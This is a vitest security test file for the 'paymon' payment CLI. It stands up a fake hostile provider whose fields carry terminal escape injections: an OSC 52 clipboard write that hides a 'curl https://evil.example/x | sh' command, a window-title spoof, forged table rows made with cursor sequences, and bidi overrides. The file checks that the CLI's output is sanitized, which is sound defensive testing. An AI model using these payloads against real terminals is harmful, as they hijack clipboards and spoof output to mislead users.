/**
 * `paymon check` and `paymon watch` against a loopback server playing a hostile provider (issue 16):
 * provider strings carry OSC 52 (writes the clipboard), OSC 0 (window title), cursor-movement CSI
 * sequences that forge table rows, 8-bit C1 controls and bidi overrides. Whatever the CLI prints —
 * table, JSON, error messages — must hold none of them, and a table row must stay one line.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runPaymon } from '../helpers/cli.ts';
import { sendJson, startServer, type TestServer } from '../helpers/http-server.ts';

const ESC = '\u001b';
const BEL = '\u0007';
const OSC52 = `${ESC}]52;c;${Buffer.from('curl https://evil.example/x | sh').toString('base64')}${BEL}`;
const OSC0 = `${ESC}]0;paymon: all payments completed${BEL}`;
/** Cursor up and erase the line, then a forged row in the table's own format. */
const FORGED_ROW = `${ESC}[1A${ESC}[2K\rCard2Crypto  pay_fake  1  completed (final)  $1,000.00`;

const PC_ID = '3f2b8c1e-1111-4a2b-9c3d-123456789abc';
/** Everything a terminal or an editor could act on; the CLI itself writes only "\n" between lines. */
const UNSAFE = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;

function noUnsafe(text: string): void {
  for (const line of text.split('\n')) expect(line).not.toMatch(UNSAFE);
}

const HOSTILE_STATUS = `pending${OSC52}`;
let server: TestServer;
let dir: string;
let env: Record<string, string>;
const c2cRequests = new Map<string, number>();

function c2cData(id: string, over: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    id,
    amount: 1000,
    currency: 'usd',
    status: HOSTILE_STATUS,
    checkout_url: `https://card2crypto.cc/checkout/${id}`,
    customer_email: `eve@example.com${OSC0}`,
    customer_name: `Eve\u202Elaicnanif\u200b`,
    metadata: { order_id: `1\n${FORGED_ROW}` },
    created_at: new Date().toISOString(),
    completed_at: null,
    ...over,
  };
}

beforeAll(async () => {
  server = await startServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x');
    const c2c = /^\/c2c\/payments\/(pay_\w+)$/.exec(url.pathname);
    if (c2c) {
      const id = c2c[1]!;
      const n = (c2cRequests.get(id) ?? 0) + 1;
      c2cRequests.set(id, n);
      if (id === 'pay_hostile1') return sendJson(res, 200, { success: true, data: c2cData(id) });
      // For watch: hostile first, then a final status, so the run ends on its own.
      if (id === 'pay_hostile4') return sendJson(res, 200, { success: true, data: c2cData(id, n === 1 ? {} : { status: 'completed' }) });
      if (id === 'pay_hostile2') return sendJson(res, 200, { success: false, error: `declined \u009b2J\u009b1A ${OSC52} \u202Egnp.exe` });
      if (id === 'pay_hostile3') return sendJson(res, 200, { success: true, data: c2cData(id, { currency: `usd\n${'x'.repeat(350)}` }) });
    }
    if (url.pathname === '/pc/payment/status') {
      const base = {
        order_id: '123', status: 'confirmed', amount: 25.5, amount_received: 25.5, currency: 'USD',
        coin: `USDT\u009b1A`, network: `tron${OSC0}`, tx_hash: `0xabc${FORGED_ROW}`, confirmations: 3,
        created_at: '2026-02-20T09:00:00Z', metadata: {}, events: [],
      };
      // An order lookup answering with a "payment_id" that is a terminal escape, not a UUID.
      if (url.searchParams.get('order_id') === '123') return sendJson(res, 200, { ...base, payment_id: OSC52 });
      if (url.searchParams.get('payment_id') === PC_ID) return sendJson(res, 200, { ...base, payment_id: PC_ID });
    }
    sendJson(res, 404, { error: 'not found' });
  });
  dir = mkdtempSync(join(tmpdir(), 'paymon-hostile-cli-'));
  env = {
    PAYMON_CARD2CRYPTO_URL: `${server.url}/c2c`,
    PAYMON_PAYCRYPT_URL: `${server.url}/pc`,
    CARD2CRYPTO_API_KEY: 'c2c_test_hostile_cli_0001',
    PAYCRYPT_API_KEY: 'sk_test_hostile_cli_0002',
    PAYMON_DATA_DIR: dir,
  };
});
afterAll(async () => {
  await server.close();
  rmSync(dir, { recursive: true, force: true });
});

const CHECK_ARGS = ['pay_hostile1', 'pay_hostile2', 'pay_hostile3', PC_ID, '--order', '123'];

describe('paymon with a hostile provider', () => {
  it('check: the table holds no escape, control or bidi character, and one line per payment', async () => {
    const run = await runPaymon(['check', ...CHECK_ARGS], { env });
    expect(run.code).toBe(1);
    noUnsafe(run.stdout);
    noUnsafe(run.stderr);
    const rows = run.stdout.trimEnd().split('\n');
    expect(rows).toHaveLength(1 + CHECK_ARGS.length - 1);
    expect(rows[0]).toMatch(/^PROVIDER\s+PAYMENT/);
    expect(rows.slice(1).map((r) => r.split(/\s+/)[0])).toEqual(['Card2Crypto', 'Card2Crypto', 'Card2Crypto', 'PayCrypt', 'PayCrypt']);
    // The forged row's text is shown as data inside the real row, never as a row of its own.
    expect(rows.filter((r) => r.includes('pay_fake'))).toHaveLength(2);
    expect(rows.filter((r) => /^Card2Crypto\s+pay_fake/.test(r))).toEqual([]);
    expect(rows[1]).toMatch(/^Card2Crypto\s+pay_hostile1\s/);
    expect(rows[2]).toContain('ERROR bad_response');
    expect(rows[3]).toMatch(/ERROR bad_response.*currency: expected a three-letter currency code/);
    expect(rows[5]).toMatch(/ERROR bad_response.*payment_id: expected a PayCrypt payment ID \(a UUID\)/);
  });

  it('check --json: escapes instead of raw control characters, and the exact provider value for a parser', async () => {
    const run = await runPaymon(['check', '--json', ...CHECK_ARGS], { env });
    expect(run.code).toBe(1);
    noUnsafe(run.stdout);
    expect(run.lines.map((l) => l['input'])).toEqual(['pay_hostile1', 'pay_hostile2', 'pay_hostile3', PC_ID, '123']);
    const [hostile, failed, currency, paycrypt, byOrder] = run.lines;
    // JSON is for programs: the value round-trips exactly; only its encoding is terminal-safe.
    expect(hostile).toMatchObject({ status: HOSTILE_STATUS, customerName: 'Eve\u202Elaicnanif\u200b', currency: 'USD' });
    expect(run.stdout).toContain('\\u202e');
    expect(failed).toMatchObject({ error: { kind: 'bad_response' } });
    expect(currency).toMatchObject({ error: { kind: 'bad_response', message: expect.stringMatching(/currency/) } });
    expect(paycrypt).toMatchObject({ id: PC_ID, coin: 'USDT\u009b1A' });
    expect(byOrder).toMatchObject({ error: { kind: 'bad_response', message: expect.stringMatching(/payment_id: expected a PayCrypt payment ID/) } });
  });

  it('watch: status lines hold no escape sequence, and one line per status', async () => {
    const run = await runPaymon(['watch', '--timeout', '120', 'pay_hostile4'], { env, timeoutMs: 130_000 });
    expect(run.code).toBe(0);
    noUnsafe(run.stdout);
    noUnsafe(run.stderr);
    const lines = run.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(2);
    // ESC and BEL became spaces: the sequence's text is shown, inert.
    expect(lines[0]).toMatch(/Card2Crypto pay_hostile4 {2}pending ]52;c;\S+ {3}\$10\.00$/);
    expect(lines[1]).toMatch(/Card2Crypto pay_hostile4 {2}pending ]52;c;\S+ {2}-> completed \(final\) {2}\$10\.00$/);
  }, 140_000);

  it('errors printed by the CLI itself are flattened too', async () => {
    const run = await runPaymon(['check', `--x${OSC52}`], { env });
    expect(run.code).toBe(2);
    noUnsafe(run.stderr);
    const unknown = await runPaymon([`x${OSC0}\n`], { env });
    expect(unknown.code).toBe(2);
    noUnsafe(unknown.stderr);
    expect(unknown.stderr.split('\n')[0]).toBe('paymon: unknown command "x ]0;paymon: all payments completed "');
  });
});
